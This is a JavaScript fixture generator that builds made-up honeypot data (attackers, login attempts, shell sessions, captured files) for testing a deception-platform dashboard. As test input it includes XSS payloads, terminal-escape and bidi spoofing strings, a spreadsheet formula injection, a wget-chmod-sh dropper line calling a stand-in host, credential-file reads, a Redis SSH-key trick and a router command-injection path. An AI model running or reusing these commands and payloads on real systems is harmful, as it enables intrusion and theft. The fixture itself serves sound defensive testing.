// Made-up records for development and browser tests only. Never part of the product.

let seed = 42;
const rnd = () => {
  seed = (seed * 1664525 + 1013904223) >>> 0;
  return seed / 2 ** 32;
};
const pick = (all) => all[Math.floor(rnd() * all.length)];
const hex = (n) => Array.from({ length: n }, () => Math.floor(rnd() * 16).toString(16)).join('');
const uuid = () => `${hex(8)}-${hex(4)}-7${hex(3)}-a${hex(3)}-${hex(12)}`;
const iso = (ms) => new Date(ms).toISOString().replace('Z', `${String(Math.floor(rnd() * 1000)).padStart(3, '0')}Z`);
const b64 = (text) => Buffer.from(text).toString('base64');

export const HOSTILE = [
  '<script>document.title="owned"</script><img src=x onerror=alert(1)>',
  'curl http://198.51.100.9/\u001b[31mred\u001b[0m\u0007 && echo \u0000done\r\n',
  '\u202Egpj.exe\u202C \u2066hidden\u2069 zero\u200bwidth \ufeff \u{e0041}',
  'javascript:alert(1)//"><svg onload=alert(2)>]]>-->{{7*7}}',
  `echo ${'A'.repeat(3000)}`,
  '=HYPERLINK("http://198.51.100.9","x")',
];
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh', 'whoami', 'w', 'crontab -l', 'ls -la /root/.ssh', 'cat /etc/passwd', 'history -c', 'free -m', 'nproc', 'id', 'ps aux | head', 'cat .bash_history'];
const USERS = ['root', 'admin', 'ubuntu', 'oracle', 'postgres', 'test', 'pi', 'git'];
const PASSWORDS = ['123456', 'admin', 'root', 'P@ssw0rd', 'raspberry', 'qwerty', 'letmein', '1q2w3e4r', 'password1'];
const ORIGINS = [['NL', 14061, 'DIGITALOCEAN-ASN'], ['CN', 4134, 'CHINANET-BACKBONE'], ['US', 396982, 'GOOGLE-CLOUD'], ['RU', 49505, 'SELECTEL'], ['DE', 24940, 'HETZNER-AS'], ['BR', 28573, 'Claro NXT'], [null, null, null]];
const DECKIES = [
  ['fileserv-01', ['ssh', 'ftp'], 'linux-server', 'Debian GNU/Linux 12 (bookworm)', 'linux'], ['web-01', ['http', 'https', 'ssh'], 'web-server', 'Ubuntu 22.04.5 LTS', 'linux'],
  ['mail-01', ['smtp', 'ssh'], 'mail-relay', 'Debian GNU/Linux 11 (bullseye)', 'linux'], ['cache-01', ['redis', 'ssh'], 'database-server', 'Alpine Linux v3.19', 'linux'],
  ['db-01', ['mysql', 'ssh'], 'database-server', 'AlmaLinux 9.3', 'linux'], ['cam-03', ['telnet', 'http'], 'iot-device', 'BusyBox v1.31.1', 'embedded'],
];

export function world(mode) {
  const now = Date.now();
  const w = { attackers: [], sessions: [], credentials: [], artifacts: [], bounty: [], logs: [], deckies: [], transcripts: new Map(), users: [], seq: 0 };
  w.users = [{ uuid: uuid(), username: 'admin', role: 'admin', must_change_password: false }, { uuid: uuid(), username: 'mara', role: 'viewer', must_change_password: true }];
  if (mode !== 'bare') {
    w.deckies = DECKIES.map(([name, services, archetype, distro, os], n) => ({
      host_uuid: 'local', name, services, decky_ip: `10.77.0.${11 + n}`, state: mode !== 'empty' && n === 5 ? 'degraded' : 'running', last_error: mode !== 'empty' && n === 5 ? 'telnet: address already in use (10.77.0.16:23)' : null,
      last_seen: mode === 'empty' ? null : iso(now - n * 61_000), updated_at: iso(now - 3.6e6),
      decky_config: { archetype, company: 'Kestrel Logistics', distro: 'debian', distro_name: distro, nmap_os: os, hostname: `${name.replace('-', '')}`, domain: 'corp.kestrel.example', mac: `00:16:3e:${hex(2)}:${hex(2)}:${hex(2)}`, ips: [`10.77.0.${11 + n}`, `fd77::${11 + n}`], gateway: '10.77.0.1', timezone: 'Europe/Madrid', kernel: '6.1.0-28-amd64', booted: (now - 41 * 8.64e7) * 1000, link: `dn-a1b2${n}`, software: Object.fromEntries(services.map((s) => [s, { product: s === 'ssh' ? 'OpenSSH' : s, version: '9.2p1', package: 'Debian-2+deb12u3' }])), notes: [] },
    }));
  }
  if (mode === 'empty' || mode === 'bare') return w;

  const add = (at, decky, service, event_type, ip, fields, msg, sid, extra = {}) => {
    const row = { id: 0, event_uuid: uuid(), timestamp: iso(at), decky: `local:${decky}`, service, event_type, attacker_ip: ip, src_port: 30000 + Math.floor(rnd() * 30000), dst_port: 22, session_id: sid, fields, msg, ...extra };
    w.logs.push(row);
    return row;
  };
  const people = 60;
  for (let n = 0; n < people; n += 1) {
    const ip = n === 0 ? '198.51.100.23' : n === 1 ? '203.0.113.77' : n === 2 ? '2001:db8:77::beef' : `${45 + Math.floor(rnd() * 150)}.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}.${1 + Math.floor(rnd() * 254)}`;
    const [country_code, asn, as_name] = pick(ORIGINS);
    const deep = n === 0 || n === 1 || rnd() < 0.25;
    const lastAt = n === 0 ? now - 240_000 : n === 1 ? now - 150_000 : n < 5 ? now - 290_000 : now - rnd() * rnd() * 5 * 8.64e7;
    const talks = deep ? 3 + Math.floor(rnd() * 5) : 1 + Math.floor(rnd() * 3);
    const a = { uuid: uuid(), ip, identity_id: null, first_seen: '', last_seen: iso(lastAt), event_count: 0, service_count: 0, decky_count: 0, session_count: 0, services: [], deckies: [], traversal_path: null, is_traversal: false, bounty_count: 0, credential_count: 0, command_count: 0, file_count: 0, fingerprints: [], commands: [], interacted: [], country_code, asn, as_name, ptr_record: rnd() < 0.3 ? `host-${ip.replaceAll(/[.:]/g, '-')}.example.net` : null, updated_at: iso(now) };
    const own = [];
    for (let t = 0; t < talks; t += 1) {
      const [decky, services] = n < 2 && t === 0 ? DECKIES[0] : pick(DECKIES);
      const service = n < 2 && t === 0 ? 'ssh' : pick(services);
      const sid = uuid();
      const start = lastAt - t * (200_000 + rnd() * 5_000_000);
      const silent = !deep && rnd() < 0.5;
      const s = { sid, decky: `local:${decky}`, service, attacker_ip: ip, src_port: 40000 + t, dst_port: 22, started_at: iso(start), ended_at: null, duration_us: null, bytes_in: 0, bytes_out: 0, why: null, command_count: 0, credential_count: 0, file_count: 0, logged_in: false, recording: null, recording_truncated: false };
      const before = w.logs.length;
      add(start, decky, service, 'connect', ip, { syn: hex(80) }, `${ip} connected to ${decky}:${service}`, sid);
      let at = start + 400;
      if (!silent && ['ssh', 'telnet', 'ftp', 'smtp', 'mysql'].includes(service)) {
        if (service === 'ssh') {
          add(at, decky, service, 'ssh_client', ip, { banner: 'SSH-2.0-Go', kexinit: b64(hex(40)) }, `SSH client SSH-2.0-Go`, sid);
          a.fingerprints.push({ kind: 'hassh', value: '2ec37a7cc8daf20b10e1ad6221061ca5' });
          w.bounty.push({ id: w.bounty.length + 1, timestamp: iso(at), decky: `local:${decky}`, service, attacker_ip: ip, bounty_type: 'fingerprint', payload: { kind: 'hassh', value: '2ec37a7cc8daf20b10e1ad6221061ca5', banner: 'SSH-2.0-Go' } });
        }
        const tries = 2 + Math.floor(rnd() * 5);
        for (let k = 0; k < tries; k += 1) {
          const ok = deep && (service === 'ssh' || service === 'telnet') && k === tries - 1;
          const user = pick(USERS);
          const secret = n === 1 && k === 0 ? HOSTILE[0] : pick(PASSWORDS);
          at += 700;
          add(at, decky, service, 'auth_attempt', ip, { principal: user, secret_printable: secret, secret_b64: b64(secret), secret_kind: 'plaintext', outcome: ok ? 'success' : 'failure' }, `${ip} offered ${user} / ${secret} on ${service}: ${ok ? 'success' : 'failure'}`, sid);
          s.credential_count += 1;
          s.logged_in ||= ok;
          w.credentials.push({ id: w.credentials.length + 1, attacker_ip: ip, attacker_uuid: a.uuid, decky_name: decky, service, principal: user, secret_kind: 'plaintext', secret_sha256: hex(64), secret_b64: b64(secret), secret_printable: secret, outcome: ok ? 'success' : 'failure', fields: {}, first_seen: iso(at - 1e6), last_seen: iso(at), attempt_count: 1 + Math.floor(rnd() * 40) });
        }
        if (s.logged_in) {
          const lines = n === 0 && t === 0 ? [...HOSTILE, ...COMMANDS] : Array.from({ length: 3 + Math.floor(rnd() * 8) }, () => pick(COMMANDS));
          const events = [[0.05, 'o', `Linux ${decky.replace('-', '')} 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 x86_64\r\n\r\nroot@${decky.replace('-', '')}:~# `]];
          let clock = 1.2;
          for (const line of lines) {
            at = start + 5000 + clock * 1000;
            add(at, decky, service, 'command', ip, { command: line, user: 'root', cwd: '/root' }, `${ip} ran on ${decky}: ${line}`, sid);
            s.command_count += 1;
            a.commands.unshift(line);
            for (const char of [...line].slice(0, 60)) { events.push([Number((clock += 0.05).toFixed(3)), 'i', char], [clock, 'o', char]); }
            events.push([clock += 0.2, 'o', `\r\n\u001b[01;34mDesktop\u001b[0m  \u001b[01;32mbins.sh\u001b[0m  notes.txt\r\ntotal 24\r\n\u001b[31mwarning:\u001b[0m nothing to do\r\nroot@${decky.replace('-', '')}:~# `]);
            clock += 1.5 + rnd() * (rnd() < 0.2 ? 40 : 4);
            if (line.includes('wget')) {
              add(at + 200, decky, service, 'url_seen', ip, { url: 'http://198.51.100.9/bins.sh', tool: 'wget' }, `${ip} named http://198.51.100.9/bins.sh to wget`, sid);
              w.bounty.push({ id: w.bounty.length + 1, timestamp: iso(at), decky: `local:${decky}`, service, attacker_ip: ip, bounty_type: 'url', payload: { url: 'http://198.51.100.9/bins.sh', tool: 'wget' } });
              const sha256 = hex(64);
              const row = add(at + 900, decky, service, 'file_captured', ip, { sha256, size: 18_344, path: '/tmp/bins.sh', way: 'written', whole: true }, `${ip} left /tmp/bins.sh (18344 bytes)`, sid);
              w.artifacts.push({ id: w.artifacts.length + 1, event_uuid: row.event_uuid, sha256, size: 18_344, decky: `local:${decky}`, service, attacker_ip: ip, session_id: sid, path: '/tmp/bins.sh', way: 'written', whole: true, captured_at: iso(at + 900) });
              s.file_count += 1;
            }
          }
          s.recording = `${sid}.cast`;
          w.transcripts.set(sid, { service, header: { version: 2, width: 100, height: 28, timestamp: Math.floor(start / 1000) + 5, env: { TERM: 'xterm-256color' } }, events });
          at = start + 5000 + clock * 1000;
          add(at, decky, service, 'session_recorded', ip, { recording: s.recording, duration_us: clock * 1e6, bytes: 8000, truncated: false }, `recording of ${sid} complete`, sid);
        }
      } else if (!silent && service.startsWith('http')) {
        for (const target of ['/', '/.env', '/wp-login.php', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)']) {
          at += 300;
          add(at, decky, service, 'request', ip, { method: 'GET', path: target, version: 'HTTP/1.1', headers: [['Host', decky], ['User-Agent', 'Mozilla/5.0 zgrab/0.x'], ['Accept', '*/*']], body: '', body_len: 0, status: 404 }, `GET ${target} 404`, sid);
        }
      } else if (!silent) {
        at += 500;
        add(at, decky, service, 'command', ip, { command: 'CONFIG SET dir /root/.ssh/' }, `${ip} on redis: CONFIG SET dir /root/.ssh/`, sid);
        s.command_count += 1;
        a.commands.unshift('CONFIG SET dir /root/.ssh/');
      }
      const openNow = n === 1 && t === 0;
      if (!openNow) {
        s.ended_at = iso(at + 900);
        s.duration_us = (at + 900 - start) * 1000;
        s.why = pick(['visitor', 'visitor', 'idle', 'done', 'broken']);
        add(at + 900, decky, service, 'disconnect', ip, { duration_us: s.duration_us, bytes_in: 900, bytes_out: 4000, why: s.why }, `${ip} left after ${Math.round((at - start) / 1000)} s`, sid);
      }
      s.bytes_in = 900 + Math.floor(rnd() * 9000);
      s.bytes_out = 4000 + Math.floor(rnd() * 90000);
      w.sessions.push(s);
      own.push(start);
      if (!a.deckies.includes(s.decky)) a.deckies.push(s.decky);
      if (!a.services.includes(service)) a.services.push(service);
      if (!silent && !a.interacted.includes(service)) a.interacted.push(service);
      a.event_count += w.logs.length - before;
      a.credential_count += s.credential_count;
      a.command_count += s.command_count;
      a.file_count += s.file_count;
      a.session_count += 1;
    }
    a.first_seen = iso(Math.min(...own));
    a.fingerprints = a.fingerprints.slice(0, 1);
    if (deep) a.fingerprints.push({ kind: 'ja4', value: 't13d1516h2_8daaf6152771_b186095e22b6' }, { kind: 'syn', value: '4:64+0:0:1460:mss*20,7:mss,sok,ts,nop,ws:df,id+:0' });
    a.commands = a.commands.slice(0, 50);
    a.decky_count = a.deckies.length;
    a.service_count = a.services.length;
    a.is_traversal = a.deckies.length > 1;
    a.traversal_path = a.is_traversal ? a.deckies.join(' → ') : null;
    a.bounty_count = a.fingerprints.length;
    w.attackers.push(a);
  }
  if (mode === 'huge') {
    for (let n = people; n < 100_000; n += 1) {
      const at = now - 6e6 - n * 91_000;
      const ip = `${1 + (n % 222)}.${(n >> 8) & 255}.${n & 255}.${(n * 7) & 255}`;
      const [country_code, asn, as_name] = pick(ORIGINS);
      w.attackers.push({ ...w.attackers[n % people], uuid: uuid(), ip, country_code, asn, as_name, first_seen: iso(at - 9e6), last_seen: iso(at), event_count: 1 + ((n * 37) % 900) });
    }
  }
  for (const a of w.attackers.slice(0, 60)) a.last_seen = w.logs.filter((r) => r.attacker_ip === a.ip).map((r) => r.timestamp).filter((t) => Date.parse(t) <= now).sort().at(-1) ?? a.last_seen;
  w.logs = w.logs.filter((r) => Date.parse(r.timestamp) <= now);
  w.logs.sort((a, b) => (a.timestamp < b.timestamp ? -1 : 1));
  w.logs.forEach((row, n) => { row.id = n + 1; });
  w.seq = w.logs.length;
  w.logs.reverse();
  const newest = (key) => (a, b) => (a[key] < b[key] ? 1 : -1);
  w.sessions.sort(newest('started_at'));
  w.credentials.sort(newest('last_seen'));
  w.artifacts.sort(newest('captured_at'));
  w.bounty.sort(newest('timestamp'));
  return w;
}

/** One more event, as if it happened now. */
export function happen(w) {
  const a = w.attackers[Math.floor(rnd() * 3)];
  const [decky, services] = pick(DECKIES);
  const line = pick(COMMANDS);
  const kind = rnd();
  w.seq += 1;
  const base = { id: w.seq, event_uuid: uuid(), timestamp: iso(Date.now()), decky: `local:${decky}`, service: services[0], attacker_ip: a.ip, src_port: 50000, dst_port: 22, session_id: null };
  const row = kind < 0.4 ? { ...base, event_type: 'command', fields: { command: line, user: 'root', cwd: '/root' }, msg: `${a.ip} ran ${line}` }
    : kind < 0.8 ? { ...base, event_type: 'auth_attempt', fields: { principal: 'root', secret_printable: pick(PASSWORDS), secret_b64: '', secret_kind: 'plaintext', outcome: 'failure' }, msg: 'login try' }
      : { ...base, event_type: 'connect', fields: {}, msg: `${a.ip} connected to ${decky}` };
  w.logs.unshift(row);
  a.last_seen = row.timestamp;
  a.event_count += 1;
  return { row, a };
}
